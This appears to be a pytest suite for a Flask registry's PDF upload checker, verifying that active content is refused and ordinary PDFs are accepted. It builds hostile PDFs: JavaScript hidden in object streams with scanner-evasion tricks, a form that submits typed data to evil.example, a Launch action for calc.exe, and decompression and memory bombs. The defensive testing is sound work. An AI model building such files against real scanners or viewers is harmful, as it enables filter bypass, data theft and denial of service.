"""PDF uploads (issue 9, part 3): active content is refused wherever it is, object streams
included, and named in plain English; ordinary PDFs stay accepted; a hostile PDF cannot
exhaust the worker's memory or time.

Every PDF here is built by the test. The object-stream attacks are written byte by byte
(with zlib) so that the layout the attack depends on is exactly what the test says; the
rest are made with pikepdf, as a real tool would make them.
"""

from __future__ import annotations

import base64
import io
import json
import time
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from flask import Flask
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import select

from registry import db
from registry.audit.models import AuditAction, AuditEvent
from registry.auth.models import User
from registry.uploads import services as uploads
from tests.conftest import Browser
from tests.test_consent import _api_body, form, words
from tests.test_uploads import file, pdf_by_pillow, refusal, stored_files, upload_rows

MB = 1024 * 1024
ADVICE = "Print it to a new PDF, which leaves such content out, and upload that."


def refused_because(*found: str) -> str:
    """The refusal of ``flyer.pdf`` for what was found, in the order the check names them."""
    listing = found[0] if len(found) == 1 else ", ".join(found[:-1]) + " and " + found[-1]
    return f"flyer.pdf: the PDF cannot be accepted because {listing}. {ADVICE}"


SCRIPT = "it contains a script (JavaScript)"
URI = "it opens a web address when clicked (a link to a URI)"
EXTERNAL = "it takes part of its content from another file or web address (an external stream)"
XFA = "it has an XFA form"
SUBMIT = "it sends what is typed into it to a web address (a SubmitForm action)"
OPEN_ACTION = "it runs an action as soon as it is opened (an /OpenAction)"
AUTOMATIC = "it runs actions by itself when a page or field is opened, closed or changed (additional actions, /AA)"
LAUNCH = "it can start a program or open a file on the computer (a Launch action)"
OTHER_DOCUMENT = "it opens another document (a GoToR or GoToE action)"
IMPORT = "it loads data into its form from another file (an ImportData action)"
RICH_MEDIA = "it contains rich media such as Flash or video (RichMedia)"
EMBEDDED = "it has a file embedded in it (an embedded file)"
MEDIA = "it plays sound or video (a Sound, Movie, Screen or Rendition)"
THREE_D = "it contains 3D content, which can run scripts (3D)"
FORM_ACTION = "it hides or clears parts of itself when clicked (a Hide or ResetForm action)"
OTHER_ACTION = "it runs an action of a kind that is not accepted"


@pytest.fixture
def staff(make_user: Callable[..., User]) -> User:
    return make_user("staff")


# --- PDFs written byte by byte --------------------------------------------------------------

PAGE_TREE = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources << >> >>",
}
CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R >>"
#: A catalogue whose document-level script (a JavaScript name tree) lives with it in the object stream.
SCRIPT_IN_OBJECT_STREAM = {
    1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 5 0 R >> >>",
    5: b"<< /Names [(init) 6 0 R] >>",
    6: b"<< /S /JavaScript /JS (app.alert('hello')) >>",
}
OBJECT_STREAM = 4


def object_stream_pdf(
    packed: dict[int, bytes],
    *,
    stream_entries: bytes = b"",
    encoding: str = "flate",
    loose: dict[int, bytes] | None = None,
    content: bytes | None = None,
    more_streams: dict[int, dict[int, bytes]] | None = None,
) -> bytes:
    """A PDF 1.5 file whose objects ``packed`` live in object stream 4.

    The page tree (and any ``loose`` objects) are written plainly; the cross-reference
    stream (uncompressed, so every byte of the layout is the test's) lists each packed
    object as compressed. ``stream_entries`` go at the end of the object stream's
    dictionary, after ``/Type /ObjStm``: that is where the attacks hide their bytes.
    ``encoding`` is ``flate`` (zlib) or ``hex``; ``content`` replaces the encoded
    stream (already Flate-compressed), for a stream too big to build whole.
    ``more_streams`` are further object streams (by number) and what they hold.
    """
    streams = {OBJECT_STREAM: packed, **(more_streams or {})}
    plain = {**PAGE_TREE, **(loose or {})}
    for number, holds in streams.items():
        entries = stream_entries if number == OBJECT_STREAM else b""
        plain[number] = object_stream(holds, entries, encoding, content if number == OBJECT_STREAM else None)
    home = {member: (number, index) for number, holds in streams.items() for index, member in enumerate(sorted(holds))}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    where = {}
    for number, source in sorted(plain.items()):
        where[number] = len(out)
        out += b"%d 0 obj\n" % number + source + b"\nendobj\n"
    xref = max([*plain, *home]) + 1
    where[xref] = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0: free
    for number in range(1, xref + 1):
        if number in home:
            stream, index = home[number]
            rows += b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        elif number in where:
            rows += b"\x01" + where[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref, xref + 1, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % where[xref]
    return bytes(out)


def object_stream(packed: dict[int, bytes], entries: bytes, encoding: str, content: bytes | None) -> bytes:
    """An object stream (dictionary and data) holding ``packed``, in number order."""
    numbers = sorted(packed)
    body, offsets = b"", []
    for number in numbers:
        offsets.append(len(body))
        body += packed[number] + b"\n"
    index = b" ".join(b"%d %d" % pair for pair in zip(numbers, offsets, strict=True)) + b"\n"
    if content is None:
        content = zlib.compress(index + body) if encoding == "flate" else (index + body).hex().encode() + b">"
    return (
        b"<< /Type /ObjStm /N %d /First %d " % (len(numbers), len(index))
        + (b"/Filter /FlateDecode " if encoding == "flate" else b"/Filter /ASCIIHexDecode ")
        + b"/Length %d" % len(content)
        + entries
        + b" >>\nstream\n"
        + content
        + b"\nendstream"
    )


def packed_in_object_stream(data: bytes, number: int) -> bool:
    """Whether qpdf finds object ``number`` compressed inside an object stream (the layout under test)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return pdf.get_xref_table()[(number, 0)].type == 2


# --- PDFs made with pikepdf -------------------------------------------------------------------


def made_with_pikepdf(
    change: Callable[[pikepdf.Pdf], None] | None = None,
    *,
    object_streams: bool = False,
    encryption: pikepdf.Encryption | None = None,
) -> bytes:
    """A two-page PDF, changed by ``change`` before it is saved."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 100))
    pdf.add_blank_page(page_size=(200, 100))
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, encryption=encryption or False)
    return out.getvalue()


def destination(pdf: pikepdf.Pdf, page: int = 1) -> Array:
    return Array([pdf.pages[page].obj, Name.Fit])


def with_link(action: Callable[[pikepdf.Pdf], Dictionary], subtype: Name = Name.Link) -> Callable[[pikepdf.Pdf], None]:
    """A change that puts an annotation with this action (``/A``) on the first page."""

    def change(pdf: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=[10, 10, 90, 30], A=action(pdf))
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return change


def with_annotation(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=[10, 10, 90, 30], **entries)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return change


def with_form(xfa: bool = False, action: Dictionary | None = None) -> Callable[[pikepdf.Pdf], None]:
    """An interactive form with one push button (and its action), and an XFA form if asked."""

    def change(pdf: pikepdf.Pdf) -> None:
        button = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=[10, 10, 90, 30],
            P=pdf.pages[0].obj,
        )
        if action is not None:
            button.A = action
        button = pdf.make_indirect(button)
        pdf.pages[0].obj.Annots = Array([button])
        pdf.Root.AcroForm = Dictionary(Fields=Array([button]))
        if xfa:
            template = (
                b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"/></template></xdp:xdp>'
            )
            pdf.Root.AcroForm.XFA = pdf.make_stream(template)

    return change


def open_action_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('opened')"))


def page_additional_action(pdf: pikepdf.Pdf) -> None:
    # Even a harmless page change: an action nobody clicked is not accepted.
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, D=destination(pdf)))


def external_picture(pdf: pikepdf.Pdf) -> None:
    """A picture whose data a viewer would fetch from a web address (``/F`` of a stream)."""
    picture = pdf.make_stream(
        b"",
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=1,
        Height=1,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
        F=Dictionary(FS=Name.URL, F=String("https://evil.example/pixel")),
    )
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))


def embedded_file(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"hello", mime_type="text/plain")


# --- the attacks -----------------------------------------------------------------------------


def test_javascript_in_an_object_stream_hidden_behind_a_literal_obj_string_is_refused(app: Flask, staff: User) -> None:
    """The old scanner looked back from ``stream`` to the last ``obj`` to decide whether a
    stream was an object stream; a ``(obj)`` string after ``/Type /ObjStm`` hid it."""
    data = object_stream_pdf(SCRIPT_IN_OBJECT_STREAM, stream_entries=b" /Note (obj)")
    header = data[data.index(b"4 0 obj") : data.index(b"stream\n", data.index(b"4 0 obj"))]
    assert header.index(b"/ObjStm") < header.index(b"(obj)")
    assert packed_in_object_stream(data, 6) and b"JavaScript" not in data  # only compressed

    assert refusal("artwork", file(data, "flyer.pdf", "application/pdf"), actor=staff) == refused_because(SCRIPT)
    assert upload_rows() == 0 and stored_files(app) == []


def test_javascript_in_an_object_stream_hidden_behind_4_kb_of_padding_is_refused(app: Flask, staff: User) -> None:
    """4 KB of padding between ``/Type /ObjStm`` and ``stream`` put it out of the old scanner's sight."""
    data = object_stream_pdf(SCRIPT_IN_OBJECT_STREAM, stream_entries=b" /Pad (" + b"A" * 4096 + b")")
    start = data.index(b"4 0 obj")
    assert data.index(b"stream\n", start) - data.index(b"/ObjStm", start) > 4096
    assert packed_in_object_stream(data, 6) and b"JavaScript" not in data

    assert refusal("artwork", file(data, "flyer.pdf", "application/pdf"), actor=staff) == refused_because(SCRIPT)
    assert upload_rows() == 0 and stored_files(app) == []


def test_an_xfa_form_is_refused(app: Flask, staff: User) -> None:
    data = made_with_pikepdf(with_form(xfa=True))
    assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(XFA)
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_link_to_a_web_address_is_refused(app: Flask, staff: User) -> None:
    data = made_with_pikepdf(with_link(lambda pdf: Dictionary(S=Name.URI, URI=String("https://evil.example/"))))
    assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(URI)
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_form_that_submits_to_a_web_address_is_refused(app: Flask, staff: User) -> None:
    submit = Dictionary(
        S=Name.SubmitForm,
        F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")),
    )
    data = made_with_pikepdf(with_form(action=submit))
    assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(SUBMIT)
    assert upload_rows() == 0 and stored_files(app) == []


@pytest.mark.parametrize(
    ("change", "found"),
    [
        pytest.param(open_action_script, (SCRIPT, OPEN_ACTION), id="open-action-javascript"),
        pytest.param(page_additional_action, (AUTOMATIC,), id="additional-actions"),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.Launch, F=String("calc.exe"))),
            (LAUNCH,),
            id="launch",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
            (OTHER_DOCUMENT,),
            id="gotor",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("a.pdf")))),
            (OTHER_DOCUMENT,),
            id="gotoe",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.ImportData, F=String("answers.fdf"))),
            (IMPORT,),
            id="import-data",
        ),
        pytest.param(
            with_annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
            (RICH_MEDIA,),
            id="rich-media",
        ),
        pytest.param(embedded_file, (EMBEDDED,), id="embedded-file"),
        pytest.param(
            with_annotation(Subtype=Name.FileAttachment, FS=String("notes.txt")),
            (EMBEDDED,),
            id="file-attachment-annotation",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.Rendition, OP=0)),
            (MEDIA,),
            id="rendition",
        ),
        pytest.param(external_picture, (EXTERNAL,), id="external-stream"),
        pytest.param(with_annotation(Subtype=Name.Sound), (MEDIA,), id="sound-annotation"),
        pytest.param(with_annotation(Subtype=Name("/3D")), (THREE_D,), id="3d"),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.Hide, T=String("send"))),
            (FORM_ACTION,),
            id="hide",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.ResetForm)),
            (FORM_ACTION,),
            id="reset-form",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name.Named, N=Name.Print)),
            (OTHER_ACTION,),
            id="named-print",
        ),
        pytest.param(
            with_link(lambda pdf: Dictionary(S=Name("/SomethingNew"))),
            (OTHER_ACTION,),
            id="unknown-action",
        ),
        pytest.param(
            with_link(
                lambda pdf: Dictionary(
                    S=Name.GoTo,
                    D=destination(pdf),
                    Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
                )
            ),
            (SCRIPT,),
            id="script-chained-after-a-link",
        ),
    ],
)
def test_active_content_is_refused_and_named(
    app: Flask,
    staff: User,
    change: Callable[[pikepdf.Pdf], None],
    found: tuple[str, ...],
) -> None:
    for object_streams in (
        False,
        True,
    ):  # written plainly, and compressed in object streams
        data = made_with_pikepdf(change, object_streams=object_streams)
        assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(*found)
    assert upload_rows() == 0 and stored_files(app) == []


def test_names_written_with_hex_escapes_are_still_found(app: Flask, staff: User) -> None:
    """``/J#61vaScript`` is ``/JavaScript`` to a viewer, so it is to the check."""
    data = object_stream_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
            5: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        }
    )
    assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(SCRIPT, OPEN_ACTION)


def test_an_object_stream_in_another_encoding_is_read_too(app: Flask, staff: User) -> None:
    """The old scanner could only say it could not read a hex-encoded object stream; qpdf reads it."""
    data = object_stream_pdf(SCRIPT_IN_OBJECT_STREAM, encoding="hex")
    assert packed_in_object_stream(data, 6) and b"JavaScript" not in data
    assert refusal("artwork", file(data, "flyer.pdf"), actor=staff) == refused_because(SCRIPT)


def test_the_refusal_is_audited_with_short_reasons_and_no_file_name(app: Flask, staff: User) -> None:
    refusal(
        "artwork",
        file(made_with_pikepdf(open_action_script), "Jane Bloggs.pdf"),
        file(made_with_pikepdf(with_form(xfa=True)), "form.pdf"),
        actor=staff,
    )
    event = (
        db.session()
        .execute(select(AuditEvent).where(AuditEvent.action == AuditAction.UPLOAD_REFUSED.value))
        .scalar_one()
    )
    assert json.loads(event.details) == {
        "field": "artwork",
        "reasons": ["pdf_javascript", "pdf_open_action", "pdf_xfa"],
    }
    assert "Bloggs" not in event.details


def test_a_hidden_script_is_refused_through_the_page_and_the_api(
    app: Flask,
    browser_as: Callable[..., Browser],
    staff: User,
    api_token: Callable[[User], dict[str, str]],
) -> None:
    hidden = object_stream_pdf(SCRIPT_IN_OBJECT_STREAM, stream_entries=b" /Note (obj)")
    page = browser_as(user=staff).post(
        "/consents/new",
        form(artwork=[(io.BytesIO(hidden), "flyer.pdf")]),
        content_type="multipart/form-data",
    )
    assert page.status_code == 422
    assert refused_because(SCRIPT) in words(page)

    encoded = base64.b64encode(hidden).decode()
    body = _api_body(artwork=[{"filename": "flyer.pdf", "content_base64": encoded}])
    api = app.test_client().post("/api/v1/consents", json=body, headers=api_token(staff))
    assert api.status_code == 422 and api.mimetype == "application/problem+json"
    assert api.get_json()["errors"]["artwork"].startswith(refused_because(SCRIPT))
    assert upload_rows() == 0 and stored_files(app) == []


# --- ordinary PDFs stay accepted -------------------------------------------------------------


def with_internal_links(pdf: pikepdf.Pdf) -> None:
    """Links to another page (an action and a plain destination), bookmarks, and a tagged
    structure whose elements carry ``/S`` too, none of them actions."""
    go_to = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[10, 10, 90, 30],
            A=Dictionary(S=Name.GoTo, D=destination(pdf)),
            Border=[0, 0, 0],
        )
    )
    dest = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[10, 40, 90, 60],
            Dest=destination(pdf),
        )
    )
    next_page = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=[10, 70, 90, 90],
            A=Dictionary(Type=Name.Action, S=Name.Named, N=Name.NextPage),
        )
    )
    pdf.pages[0].obj.Annots = Array([go_to, dest, next_page])
    with pdf.open_outline() as outline:
        outline.root.extend([pikepdf.OutlineItem("Cover", 0), pikepdf.OutlineItem("Details", 1)])
    paragraph = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, Pg=pdf.pages[0].obj))
    link = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Link, Pg=pdf.pages[0].obj))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([paragraph, link]))
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(lambda: made_with_pikepdf(), id="plain"),
        pytest.param(lambda: made_with_pikepdf(object_streams=True), id="object-streams"),
        pytest.param(
            lambda: made_with_pikepdf(lambda pdf: setattr(pdf.Root, "OpenAction", destination(pdf))),
            id="open-at-a-page",
        ),
        pytest.param(lambda: made_with_pikepdf(with_internal_links), id="internal-links"),
        pytest.param(
            lambda: made_with_pikepdf(with_internal_links, object_streams=True),
            id="internal-links-packed",
        ),
        pytest.param(
            lambda: object_stream_pdf(
                {
                    1: CATALOGUE,
                    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
                }
            ),
            id="handmade-object-stream",
        ),
        pytest.param(pdf_by_pillow, id="pillow"),
    ],
)
def test_ordinary_pdfs_are_stored_with_their_pages_and_streams_unchanged(
    app: Flask, staff: User, data: Callable[[], bytes]
) -> None:
    """Stored as qpdf writes them again (tests/test_issue9_review.py says why): the same pages,
    and every stream's content (an uncompressed stream comes back compressed)."""
    original = data()
    upload = uploads.store(file(original, "leaflet.pdf"), actor=staff, field="artwork")
    assert upload.content_type == "application/pdf"
    assert pages_and_streams(uploads.read_bytes(upload)) == pages_and_streams(original)


def pages_and_streams(data: bytes) -> tuple[int, list[bytes]]:
    """How many pages, and the content of every stream but object streams and cross-references
    (decoded where qpdf decodes it, else as stored: a JPEG, say)."""

    def content(stream: pikepdf.Stream) -> bytes:
        try:
            return stream.read_bytes()
        except pikepdf.PdfError:
            return stream.read_raw_bytes()

    with pikepdf.open(io.BytesIO(data)) as pdf:
        streams = [
            content(obj)
            for obj in pdf.objects
            if isinstance(obj, pikepdf.Stream) and obj.get("/Type") not in (Name.ObjStm, Name.XRef)
        ]
        return len(pdf.pages), sorted(streams)


def test_a_letter_made_with_fpdf2_is_accepted(app: Flask, staff: User) -> None:
    """The kind of PDF the Registry makes itself (consent letters, reports) is accepted back."""
    fpdf = pytest.importorskip("fpdf", reason="fpdf2 is not installed (pip install fpdf2)")
    letter = fpdf.FPDF()
    letter.add_page()
    letter.set_font("helvetica", size=12)
    letter.cell(text="Consent to use the NHS lozenge")
    letter.ln()
    letter.cell(text="See page 2", link=letter.add_link(page=1))
    data = bytes(letter.output())
    assert uploads.store(file(data, "letter.pdf"), actor=staff, field="artwork").content_type == "application/pdf"


# --- PDFs that cannot be checked ----------------------------------------------------------------


@pytest.mark.parametrize(
    "user_password",
    ["", "secret"],
    ids=["opens-without-a-password", "needs-a-password"],
)
def test_an_encrypted_pdf_is_refused(app: Flask, staff: User, user_password: str) -> None:
    data = made_with_pikepdf(encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    assert refusal("artwork", file(data, "locked.pdf"), actor=staff) == (
        "locked.pdf: the PDF is password-protected or encrypted, so it cannot be checked. "
        "Save a copy without protection and upload that."
    )


def test_garbage_after_the_pdf_header_is_refused(app: Flask, staff: User) -> None:
    garbage = b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
    assert refusal("artwork", file(garbage, "broken.pdf"), actor=staff) == (
        "broken.pdf: the PDF is damaged or stored in a way that cannot be checked. "
        "Print it to a new PDF and upload that."
    )


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(
            lambda data: data.replace(b"startxref\n", b"startxref\n1", 1),
            id="cross-reference-offset",
        ),
        pytest.param(lambda data: data.replace(b"/Length 0", b"/Length 5", 1), id="stream-length"),
        pytest.param(
            lambda data: data.replace(b"/Pages 2 0 R", b"/Pages 2 0 R /Pages 2 0 R", 1),
            id="duplicated-key",
        ),
    ],
)
def test_a_pdf_that_qpdf_would_have_to_repair_is_refused(
    app: Flask,
    staff: User,
    damage: Callable[[bytes], bytes],
) -> None:
    """Where qpdf would have to guess (where the objects are, where a stream ends, which of
    two values counts), a viewer may guess otherwise and see what was never checked."""
    clean = made_with_pikepdf()
    damaged = damage(clean)
    assert damaged != clean
    assert refusal("artwork", file(damaged, "broken.pdf"), actor=staff) == (
        "broken.pdf: the PDF is damaged or stored in a way that cannot be checked. "
        "Print it to a new PDF and upload that."
    )


# --- limits ----------------------------------------------------------------------------------


TOO_COMPLEX = (
    "bomb.pdf: the PDF is too large or complex to check safely. "
    "Print it to a new PDF, or split it into smaller files, and upload that."
)


def catalogue_and_a_huge_string(inflated_mb: int) -> bytes:
    """Object stream content, Flate-compressed: the catalogue (object 1) and object 5, a
    string of ``inflated_mb`` MB of ``0``.

    A megabyte of ``0`` after a full flush compresses to the same bytes every time, so the
    block is made once and repeated; the checksum at the end is worked out for the whole.
    """
    index = b"1 0 5 %d\n" % (len(CATALOGUE) + 1)  # as object_stream_pdf lays out {1: CATALOGUE, 5: ...}
    start, end = index + CATALOGUE + b"\n(", b")\n"
    packer = zlib.compressobj(9)
    head = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"0" * MB) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(end) + packer.flush()
    check = zlib.adler32(end, adler32_of_run(zlib.adler32(start), ord("0"), inflated_mb * MB))
    return head + block * inflated_mb + tail[:-4] + check.to_bytes(4, "big")


def adler32_of_run(check: int, byte: int, count: int) -> int:
    """``zlib.adler32(bytes([byte]) * count, check)``, without the bytes."""
    low, high = check & 0xFFFF, check >> 16
    high = (high + count * low + byte * count * (count + 1) // 2) % 65521
    low = (low + count * byte) % 65521
    return high << 16 | low


def test_an_object_stream_that_inflates_hugely_is_refused_quickly(app: Flask, staff: User) -> None:
    """Just under the 10 MB limit, inflating to 9 GB: refused in seconds; the worker is untouched."""
    from registry.uploads import pdf_scan

    data = object_stream_pdf({1: CATALOGUE, 5: b"()"}, content=catalogue_and_a_huge_string(9_000))
    assert 8 * MB < len(data) <= 10 * MB

    began = time.monotonic()
    assert refusal("artwork", file(data, "bomb.pdf"), actor=staff) == TOO_COMPLEX
    assert time.monotonic() - began < pdf_scan.WALL_SECONDS
    assert upload_rows() == 0 and stored_files(app) == []


@pytest.mark.parametrize(
    "streams",
    [
        pytest.param({4: {5: b"(" + b"0" * (100 * MB) + b")"}}, id="one-stream-over-the-limit"),
        pytest.param(
            {
                4: {5: b"(" + b"0" * (40 * MB) + b")"},
                6: {7: b"(" + b"0" * (40 * MB) + b")"},
            },
            id="two-streams-over-it-together",
        ),
    ],
)
def test_object_streams_that_inflate_beyond_the_limit_are_refused(
    app: Flask,
    staff: User,
    streams: dict[int, dict[int, bytes]],
) -> None:
    """The catalogue is outside them, so they are measured before anything in them is parsed."""
    packed = streams.pop(4)
    data = object_stream_pdf(packed, loose={1: CATALOGUE}, more_streams=streams)
    assert len(data) < MB
    assert refusal("artwork", file(data, "bomb.pdf"), actor=staff) == TOO_COMPLEX


def test_a_pdf_that_would_fill_memory_is_refused(app: Flask, staff: User) -> None:
    """10 MB holding one array of five million numbers: qpdf would need over 700 MB to hold
    it. The check may use far less, so the file is refused, and the worker is untouched."""
    numbers = b"[" + b"0 " * (5 * MB - 4096) + b"]"
    data = object_stream_pdf({1: CATALOGUE}, loose={5: numbers})
    assert 9 * MB < len(data) <= 10 * MB
    assert refusal("artwork", file(data, "bomb.pdf"), actor=staff) == TOO_COMPLEX
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_check_that_runs_too_long_is_stopped(app: Flask, staff: User, monkeypatch: pytest.MonkeyPatch) -> None:
    """The worker waits for the checking process only so long; then it is killed and the
    file refused. (The real limit is far above what any test PDF needs; here it is shortened.)"""
    from registry.uploads import pdf_scan

    monkeypatch.setattr(pdf_scan, "WALL_SECONDS", 0.001)
    assert refusal("artwork", file(made_with_pikepdf(), "bomb.pdf"), actor=staff) == TOO_COMPLEX
